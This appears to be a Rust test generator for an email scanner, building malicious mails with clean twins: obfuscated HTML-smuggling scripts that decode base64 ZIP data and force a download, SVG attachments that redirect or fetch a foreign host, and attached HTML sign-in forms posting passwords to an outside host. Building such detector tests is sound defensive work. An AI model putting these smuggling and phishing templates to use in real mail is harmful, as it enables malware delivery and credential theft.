//! Pages that build a file in the reader's browser; drawings that act; sign-in pages as attachments.

use super::Case;
use super::dice::Dice;
use super::letter::{File, Letter, base64};

const COUNT: usize = 10;

pub fn cases(dice: &mut Dice, cases: &mut Vec<Case>) {
    for number in 0..COUNT {
        cases.push(in_body(dice, number));
        cases.push(in_attachment(dice, number, false));
        cases.push(in_attachment(dice, number, true));
        cases.push(drawing(dice, number));
        cases.push(sign_in(dice, number));
    }
}

/// A script that turns text into a file and hands it over, in one of the ways in use.
fn script(dice: &mut Dice, number: usize) -> String {
    let payload = base64(&[b"PK\x03\x04\x14\x00".to_vec(), dice.octets(2_400)].concat());
    let name = format!("{}.zip", dice.letters(6));
    match number % 5 {
        0 => format!(
            "var d='{payload}';var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);\
             var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));l.download='{name}';l.click();"
        ),
        1 => format!(
            "const d=\"{payload}\";const f=new File([Uint8Array.from(atob(d),c=>c.charCodeAt(0))],'{name}');\
             const u=window['URL']['create'+'Object'+'URL'](f);const l=document.createElement('a');l.setAttribute('download','{name}');\
             l.href=u;document.body.appendChild(l);l['cl'+'ick']();location.href=u;"
        ),
        2 => format!(
            "var q=window[\"\\x61\\x74\\x6f\\x62\"](\"{payload}\");var n=[];for(var i=0;i<q.length;i++)n.push(q.charCodeAt(i));\
             navigator.msSaveOrOpenBlob(new Blob([new Uint8Array(n)]),'{name}');"
        ),
        3 => {
            let inner = format!(
                "<script>var l=document.createElement('a');l.href='data:application/octet-stream;base64,{payload}';l.download='{name}';l.click();</script>"
            );
            format!("document.write(atob('{}'));", base64(inner.as_bytes()))
        }
        _ => {
            let inner: String = format!(
                "var b=atob('{payload}');var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([b]));l.download='{name}';l.click();"
            )
            .bytes()
            .map(|octet| if octet.is_ascii_alphanumeric() { char::from(octet).to_string() } else { format!("%{octet:02x}") })
            .collect();
            format!("eval(unescape('{inner}'));")
        }
    }
}

fn in_body(dice: &mut Dice, number: usize) -> Case {
    let letter = Letter::new(dice);
    let script = script(dice, number);
    Case {
        kind: "smuggling in the text",
        name: format!("smuggling-body-{number}"),
        mail: letter.clone().with_html(&format!("<script>{script}</script>")).octets(),
        check: "content.smuggling",
        twin: letter.with_html("").octets(),
    }
}

fn in_attachment(dice: &mut Dice, number: usize, is_drawing: bool) -> Case {
    let letter = Letter::new(dice).with_text("Please find the overview attached. Tell me if a page is missing.");
    let script = script(dice, number);
    let file = |script: &str| {
        if is_drawing {
            let drawing = format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"80\" height=\"40\"><rect width=\"80\" height=\"40\"/>{script}</svg>"
            );
            File::attached("overview.svg", "image/svg+xml", drawing)
        } else {
            File::attached(
                "overview.html",
                "text/html",
                format!("<!DOCTYPE html><html><body><h1>Overview</h1><p>Rooms and days</p>{script}</body></html>"),
            )
        }
    };
    Case {
        kind: if is_drawing { "smuggling in a drawing" } else { "smuggling in a page" },
        name: format!("smuggling-{}-{number}", if is_drawing { "svg" } else { "html" }),
        mail: letter.clone().with_file(file(&format!("<script>{script}</script>"))).octets(),
        check: "attachment.smuggling",
        twin: letter.with_file(file("")).octets(),
    }
}

fn drawing(dice: &mut Dice, number: usize) -> Case {
    let letter = Letter::new(dice).with_text("The plan of the ground floor is attached.");
    let to = super::names::stranger(dice);
    let act = match number % 4 {
        0 => format!("<script>window.location='https://{to}/'+Math.random()</script>"),
        1 => format!("<rect width=\"80\" height=\"40\" onclick=\"window.open('https://{to}/')\"/>"),
        2 => format!("<a href=\"javascript:fetch('https://{to}/')\"><rect width=\"80\" height=\"40\"/></a>"),
        _ => format!("<foreignObject width=\"100%\" height=\"100%\"><iframe src=\"https://{to}/\"></iframe></foreignObject><script/>"),
    };
    let file = |act: &str| {
        let drawing = format!(
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"80\" height=\"40\"><circle r=\"9\"/>{act}</svg>"
        );
        File::attached("plan.svg", "image/svg+xml", drawing)
    };
    Case {
        kind: "a drawing that acts",
        name: format!("svg-active-{number}"),
        mail: letter.clone().with_file(file(&act)).octets(),
        check: "attachment.svg-active",
        twin: letter.with_file(file("")).octets(),
    }
}

fn sign_in(dice: &mut Dice, number: usize) -> Case {
    let letter = Letter::new(dice).with_text("The statement is attached as a page.");
    let to = super::names::stranger(dice);
    let name = dice.pick(&["statement.html", "statement.htm", "Statement_0115.html"]);
    let file = |form: &str| {
        File::attached(
            name,
            "text/html",
            format!("<html><body><h2>Statement</h2><table><tr><td>January</td><td>12</td></tr></table>{form}</body></html>"),
        )
    };
    let form = format!(
        "<form action=\"https://{to}/p\" method=post><input name=user><input type=\"password\" name=p><button>View</button></form>"
    );
    Case {
        kind: "a sign-in page attached",
        name: format!("html-password-{number}"),
        mail: letter.clone().with_file(file(&form)).octets(),
        check: "attachment.html-password",
        twin: letter.with_file(file("")).octets(),
    }
}
